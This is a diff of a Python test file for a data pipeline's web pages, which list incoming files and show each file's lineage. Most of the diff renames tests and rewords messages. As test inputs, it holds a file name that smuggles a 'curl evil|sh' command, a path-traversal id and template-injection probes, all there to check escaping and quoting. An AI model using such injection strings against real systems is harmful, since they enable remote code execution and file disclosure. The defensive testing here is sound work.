@@ -1,4 +1,4 @@
-"""Lists of files, and the page of one."""
+"""Lists of files, and the page of a file."""
 
 import html
 import json
@@ -21,7 +21,7 @@ HOSTILE = [
 ]
 
 
-def test_pages_of_a_list_hold_every_file_once_the_last_moved_first(pipeline, browser):
+def test_pages_of_a_list_show_every_file_once_most_recent_change_first(pipeline, browser):
     sources = [pipeline.put(f"incoming/{n}.csv", "ARCHIVED" if n % 2 else "FAILED", ago(n)) for n in range(120)]
     pages = [browser.get(f"/files?page={number}") for number in (1, 2, 3)]
     assert [len(page.lines) for page in pages] == [50, 50, 20]
@@ -31,7 +31,7 @@ def test_pages_of_a_list_hold_every_file_once_the_last_moved_first(pipeline, bro
     assert not any("page=4" in link for link in pages[2].links)
 
 
-def test_a_list_is_of_what_was_asked_for(pipeline, browser):
+def test_a_list_shows_the_files_that_match_its_filters(pipeline, browser):
     wanted = pipeline.put("incoming/a.csv", "FAILED", ago(10), reason="object_gone")
     pipeline.put("incoming/b.csv", "FAILED", ago(10), reason="no_reference_data")
     pipeline.put("incoming/c.csv", "ARCHIVED", ago(10))
@@ -51,7 +51,7 @@ def test_a_list_is_of_what_was_asked_for(pipeline, browser):
     assert len(listed("status=FAILED&status=LANDED")) == 3
 
 
-def test_a_days_list_has_streams_files_alone(pipeline, browser):
+def test_the_list_of_a_day_has_streams_files_only(pipeline, browser):
     pipeline.put("reference/songs/songs.csv", "ARCHIVED", ago(10))
     assert browser.get(f"/files?day={TODAY}").lines == []
 
@@ -59,19 +59,19 @@ def test_a_days_list_has_streams_files_alone(pipeline, browser):
 @pytest.mark.parametrize(
     "query", ["status=GONE", "state=nowhere", "day=today", "page=0", "page=1000", "reason=" + "x" * 1001]
 )
-def test_a_misspelt_address_is_told_so(browser, query):
-    assert "This address is misspelt" in browser.get(f"/files?{query}", status=422).text
+def test_an_invalid_filter_is_rejected(browser, query):
+    assert "Invalid address" in browser.get(f"/files?{query}", status=422).text
 
 
-def test_a_list_of_nothing_leads_on(browser):
+def test_an_empty_list_links_to_all_files(browser):
     page = browser.get("/files?status=RETRACTED")
-    assert "There is no such file." in page.text
+    assert "No files match." in page.text
     assert "/music-streams/files" in page.links
 
 
 @pytest.mark.parametrize("key", HOSTILE)
 @pytest.mark.parametrize("status", ["FAILED", "LANDED"])
-def test_hostile_names_are_shown_and_do_no_harm(pipeline, browser, key, status):
+def test_hostile_names_are_shown_and_escaped(pipeline, browser, key, status):
     source = pipeline.land(key) if status == "LANDED" else pipeline.put(key, status, ago(30), reason=key)
     if status == "FAILED":
         findings = Findings(Window(TODAY, TODAY, key), ago(5), {"OK": 1}, [], [])
@@ -81,16 +81,18 @@ def test_hostile_names_are_shown_and_do_no_harm(pipeline, browser, key, status):
         page = browser.get(address)
         scripts = [script for script in page.all("script") if "src" not in script]
         assert all(script == {"type": "application/json"} for script in scripts)
-        assert not [name for _, told in page.tags for name in told if name.startswith("on") or name == "style"]
-        shown = page.text + "".join(told.get("title", "") for _, told in page.tags)
+        assert not [
+            name for _, attributes in page.tags for name in attributes if name.startswith("on") or name == "style"
+        ]
+        shown = page.text + "".join(attributes.get("title", "") for _, attributes in page.tags)
         assert not {"\u202e", "\u2066", "\x7f"} & set(shown)
-        assert str(7331 * 7331) not in shown, "a name was taken for a template"
+        assert str(7331 * 7331) not in shown, "a name was rendered as a template"
         assert all(link.startswith("/") for link in page.links)
     button = browser.get(own).all("button")[0]
     assert json.loads(button["data-conf"]) == {"prefix": key}
 
 
-def test_a_files_page_tells_its_way_in_order(pipeline, browser):
+def test_the_page_of_a_file_shows_its_lineage_in_order(pipeline, browser):
     source = pipeline.put(
         "incoming/good.csv",
         "ARCHIVED",
@@ -110,35 +112,35 @@ def test_a_files_page_tells_its_way_in_order(pipeline, browser):
         total_cost_micro_usd=45_678,
     )
     page = browser.get(f"/files/{source.source_id}")
-    order = ["next", "object", "verdict", "attempts", "execution", "rows", "items", "place"]
+    order = ["next", "object", "verdict", "attempts", "execution", "rows", "items", "location"]
     assert page.sections == order
     assert "read 100 = accepted 97 + rejected 3" in page.text
     assert "3 duplicate" in page.text
     assert "$0.0151" in page.text
     assert "$0.0457 with earlier runs" in page.text
     assert "and 2 more" in page.text
-    assert page.text.count("DAY#") == 31, "each is a query"
+    assert page.text.count("DAY#") == 31, "each day is a query"
     assert "s3://landing/archive/2026/11/22/x/good.csv" in page.text
-    assert "not there" in page.text
-    assert page.all("button") == [], "a file at its end needs no redrive"
+    assert "object not found" in page.text
+    assert page.all("button") == [], "a finished file needs no redrive"
 
 
-def test_a_quarantined_files_page_tells_why_and_what_to_do(pipeline, browser):
+def test_the_page_of_a_quarantined_file_shows_reason_and_next_step(pipeline, browser):
     verdict, kept = "missing_columns", "quarantine/x/bad.csv"
     source = pipeline.put("incoming/bad.csv", "QUARANTINED", ago(9), reason=verdict, archive_key=kept)
-    told = {"verdict": verdict, "detail": "the header row lacks: track_id", "what_to_do": "write the header row"}
-    pipeline.stack.s3.put_object(Bucket="landing", Key="quarantine/x/reason.json", Body=json.dumps(told))
+    reason = {"verdict": verdict, "detail": "the header row lacks: track_id", "what_to_do": "write the header row"}
+    pipeline.stack.s3.put_object(Bucket="landing", Key="quarantine/x/reason.json", Body=json.dumps(reason))
     text = browser.get(f"/files/{source.source_id}").text
     assert "the header row lacks: track_id" in text
     assert "mend the file, then: music-streams put FILE --key bad.csv" in text
 
 
-def test_a_command_that_cannot_be_shown_as_it_is_is_not_shown(pipeline, browser):
+def test_a_command_that_cannot_be_shown_unchanged_is_not_shown(pipeline, browser):
     source = pipeline.put("incoming/\u202ebad.csv", "QUARANTINED", ago(9), reason="missing_columns")
     assert "music-streams put FILE" not in browser.get(f"/files/{source.source_id}").text
 
 
-def test_a_command_to_copy_names_a_hostile_file_in_one_word(pipeline, browser):
+def test_a_command_to_copy_quotes_a_hostile_name(pipeline, browser):
     name = "x   '; curl evil|sh   '.csv"
     source = pipeline.put(f"incoming/{name}", "QUARANTINED", ago(9), reason="missing_columns")
     page = browser.get(f"/files/{source.source_id}")
@@ -150,7 +152,7 @@ def test_a_command_to_copy_names_a_hostile_file_in_one_word(pipeline, browser):
     ("status", "reason", "buttons"),
     [("FAILED", "timed out", 1), ("FAILED", "object_gone", 0), ("RUNNING", "", 1), ("RETRACTED", "", 0)],
 )
-def test_a_redrive_is_offered_where_it_may_help(pipeline, browser, status, reason, buttons):
+def test_a_redrive_is_offered_only_if_it_may_help(pipeline, browser, status, reason, buttons):
     source = pipeline.put("incoming/a.csv", status, ago(9), reason=reason)
     assert len(browser.get(f"/files/{source.source_id}").all("button")) == buttons
 
@@ -158,5 +160,5 @@ def test_a_redrive_is_offered_where_it_may_help(pipeline, browser, status, reaso
 @pytest.mark.parametrize(
     ("source_id", "status"), [("0" * 32, 404), ("..%2f..%2fetc", 404), ("0" * 31, 422), ("G" * 32, 422)]
 )
-def test_an_unknown_file_is_told_so(browser, source_id, status):
+def test_an_unknown_file_is_rejected(browser, source_id, status):
     browser.get(f"/files/{source_id}", status=status)
